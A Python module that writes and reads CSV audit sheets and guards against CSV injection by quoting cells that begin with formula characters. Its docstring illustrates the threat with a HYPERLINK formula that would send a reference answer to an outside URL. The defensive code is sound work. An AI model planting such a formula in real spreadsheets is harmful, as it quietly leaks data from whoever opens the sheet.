"""CSV sheets a person opens in a spreadsheet (the audits'), written and read in one place.

A cell a spreadsheet would evaluate as a formula (one that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return: an answer ``=HYPERLINK("http://...?ref="&C2, "see")`` would send the
reference answer in C2 away) is written with a leading single quote, so that it shows as the text it
is (OWASP's advice on CSV injection); so is a cell that begins with a quote, so that reading strips
exactly the quotes writing added and gives back every cell as it was.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

_FORMULA = ("=", "+", "-", "@", "\t", "\r")


class SheetError(ValueError):
    """A filled-in sheet or its key file that cannot be read; the message names file and row."""

_QUOTE = "'"


def as_text(cell: object) -> str:
    """The cell as written to a sheet: a formula's first character is quoted."""
    text = "" if cell is None else str(cell)
    return _QUOTE + text if text.startswith((*_FORMULA, _QUOTE)) else text


def from_text(cell: str) -> str:
    """A cell as read from a sheet: the quote `as_text` added taken off."""
    return cell[1:] if cell.startswith(_QUOTE) and cell[1:].startswith((*_FORMULA, _QUOTE)) else cell


def write_rows(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow([as_text(c) for c in header])
        out.writerows([as_text(c) for c in row] for row in rows)


def read_rows(path: Path) -> Iterator[dict[str, str]]:
    """Each row of a sheet by its header's names, every cell as `as_text` was given it."""
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield {from_text(k): from_text(v or "") for k, v in row.items() if k is not None}
